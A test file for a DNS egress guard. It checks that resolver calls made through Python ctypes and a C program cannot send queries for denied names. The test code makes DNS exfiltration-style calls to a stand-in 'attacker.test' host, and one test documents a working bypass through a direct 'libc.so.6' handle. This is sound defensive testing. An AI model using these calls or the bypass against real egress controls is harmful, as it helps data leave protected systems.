// Attacks through the resolver's query functions (docs/INTERPOSER.md "Hooks", resquery.c): res_query, res_search,
// res_querydomain, res_send, their res_n* forms and their __res_* names send DNS queries with sockets the other hooks
// never see. Reached from plain Python with ctypes through the program's own symbol scope (`CDLL(None)`, what a
// dynamically linked program's calls resolve to) and from a C program linked with -lresolv, run as `nobody` in enforce
// mode. Passing = the namespace's DNS server saw no query for a name the policy does not allow (search-list names and
// escaped spellings included), each call failed as for a name that does not exist, and guard lines name what was
// blocked; allowed names still work.
import { spawnSync } from 'node:child_process';
import { chmodSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { needCommand, needNetns } from '../support/capability.js';
import { needLibrary, ROOT, scratchDir } from '../support/guard.js';
import {
  createResolverWorld,
  explainRun,
  guardLines,
  PYTHON,
  type ResolverWorld,
  SERVICE_IP,
} from './resolver-world.js';

const ok =
  needNetns() &&
  needLibrary() &&
  needCommand('setpriv', '--version') &&
  needCommand(PYTHON, '--version') &&
  needCommand('gcc');

const POLICY = `version: 1
mode: enforce
allow:
  - name: example
    host: "*.example.com"
deny:
  - name: bad
    host: bad.example.com
`;

const attackerName = (q: string) => q.endsWith('attacker.test') || q === 'bad.example.com' || q.startsWith('exfil');

/** The ctypes attempt: every function of the family, each name the policy denies, then the allowed controls. */
const CTYPES_ATTACK = `
import ctypes, json, os
os.environ["LOCALDOMAIN"] = "attacker.test"  # read when the resolver first loads its configuration: below
lib = ctypes.CDLL(None)  # the program's own symbol scope
ans = ctypes.create_string_buffer(4096)
msg = ctypes.create_string_buffer(512)
C_IN, T_A, T_TXT = 1, 1, 16
state = ctypes.create_string_buffer(8192)  # a struct __res_state for the res_n* forms
getattr(lib, "__res_ninit")(state)
def mk(name):
    return lib.res_mkquery(0, name, C_IN, T_A, None, 0, None, msg, 512)
out = {}
for prefix in ["", "__"]:
    f = lambda n: getattr(lib, prefix + n)
    out[prefix + "res_query"] = f("res_query")(b"exfil-q.attacker.test", C_IN, T_TXT, ans, 4096)
    out[prefix + "res_query escaped"] = f("res_query")(b"b\\\\097d.example.com", C_IN, T_A, ans, 4096)
    out[prefix + "res_search"] = f("res_search")(b"data.example.com", C_IN, T_TXT, ans, 4096)
    out[prefix + "res_search dotless"] = f("res_search")(b"exfil-s", C_IN, T_TXT, ans, 4096)
    out[prefix + "res_querydomain"] = f("res_querydomain")(b"exfil-d", b"attacker.test", C_IN, T_A, ans, 4096)
    out[prefix + "res_send"] = f("res_send")(msg, mk(b"exfil-m.attacker.test"), ans, 4096)
    out[prefix + "res_nquery"] = f("res_nquery")(state, b"exfil-nq.attacker.test", C_IN, T_TXT, ans, 4096)
    out[prefix + "res_nsearch"] = f("res_nsearch")(state, b"data.example.com", C_IN, T_TXT, ans, 4096)
    out[prefix + "res_nquerydomain"] = f("res_nquerydomain")(state, b"exfil-nd", b"attacker.test", C_IN, T_A, ans, 4096)
    out[prefix + "res_nsend"] = f("res_nsend")(state, msg, mk(b"exfil-nm.attacker.test"), ans, 4096)
out["allowed res_query"] = lib.res_query(b"api.example.com", C_IN, T_A, ans, 4096) > 0
out["allowed res_search"] = lib.res_search(b"api.example.com", C_IN, T_A, ans, 4096) > 0
out["allowed res_send"] = lib.res_send(msg, mk(b"api.example.com"), ans, 4096) > 0
print(json.dumps(out))`;

describe.skipIf(!ok)('resolver attacks: res_query, res_search, res_querydomain, res_send and their n/__ forms', () => {
  let world: ResolverWorld;
  let policy: string;
  let probe: string;
  beforeAll(async () => {
    world = await createResolverWorld({
      prefix: 'egrq',
      records: { 'api.example.com': [SERVICE_IP], 'data.example.com.attacker.test': ['10.77.0.66'] },
    });
    policy = world.policy('res', POLICY);
    probe = join(scratchDir(), 'resolver_resquery');
    const cc = spawnSync(
      'gcc',
      ['-O1', '-o', probe, join(ROOT, 'test/adversarial/programs/resolver_resquery.c'), '-lresolv'],
      {
        encoding: 'utf8',
      },
    );
    if (cc.status !== 0) throw new Error(`building resolver_resquery failed: ${cc.stderr}`);
    chmodSync(probe, 0o755);
  });
  afterAll(() => world?.destroy());

  it('Python ctypes: every function of the family, under both names, never queries a denied name', async () => {
    const r = await world.attack({ lang: 'python', policy, code: CTYPES_ATTACK });
    expect(r.status, explainRun(r)).toBe(0);
    const out = r.out as Record<string, number | boolean>;
    for (const [k, v] of Object.entries(out)) {
      if (k.startsWith('allowed')) expect(v, `${k}: ${explainRun(r)}`).toBe(true);
      else expect(v, `${k}: ${explainRun(r)}`).toBe(-1);
    }
    expect(Object.keys(out)).toHaveLength(23);
    expect(r.queries.filter(attackerName), explainRun(r)).toEqual([]);
    expect(r.queries).toContain('data.example.com'); // res_search asked the allowed name itself, then stopped
    expect(r.queries).toContain('api.example.com');
    for (const call of ['res_query', 'res_search', 'res_querydomain', 'res_send', 'res_nquery', 'res_nsearch']) {
      expect(
        guardLines(r.logs, { event: 'dns', call, blocked: true }).length,
        `${call}: ${explainRun(r)}`,
      ).toBeGreaterThan(0);
    }
    expect(guardLines(r.logs, { event: 'dns', host: 'data.example.com.attacker.test', blocked: true })).toHaveLength(4);
    expect(guardLines(r.logs, { event: 'dns', host: 'bad.example.com', rule: 'bad', blocked: true })).toHaveLength(2);
  });

  it('a C program linked with -lresolv: res_query, res_search, res_querydomain, res_send of denied names', async () => {
    const r = await world.attack({
      lang: 'python',
      policy,
      code: `import os; os.execv(${JSON.stringify(probe)}, ["probe", "exfil-c.attacker.test", "bad.example.com"])`,
    });
    expect(r.out, explainRun(r)).toEqual({
      'exfil-c.attacker.test': [-1, -1, -1, -1],
      'bad.example.com': [-1, -1, -1, -1],
    });
    expect(r.queries.filter(attackerName), explainRun(r)).toEqual([]);
  });

  it('NOT COVERED: ctypes with a library handle (CDLL("libc.so.6"), …) reaches libc itself — native access', async () => {
    // dlsym on a library's own handle searches that library and its dependencies, not the preloaded guard: the
    // "dlsym(RTLD_NEXT)" class of SECURITY.md, reachable from Python's standard library. Passing = the query got
    // through (this documents the gap; it fails the day the behaviour changes).
    const r = await world.attack({
      lang: 'python',
      policy,
      code: `
import ctypes, json
ans = ctypes.create_string_buffer(4096)
libc = ctypes.CDLL("libc.so.6")
print(json.dumps(libc.res_query(b"exfil-handle.attacker.test", 1, 16, ans, 4096)))`,
    });
    expect(r.queries, explainRun(r)).toContain('exfil-handle.attacker.test');
    expect(guardLines(r.logs, { event: 'dns' })).toEqual([]);
  });
});
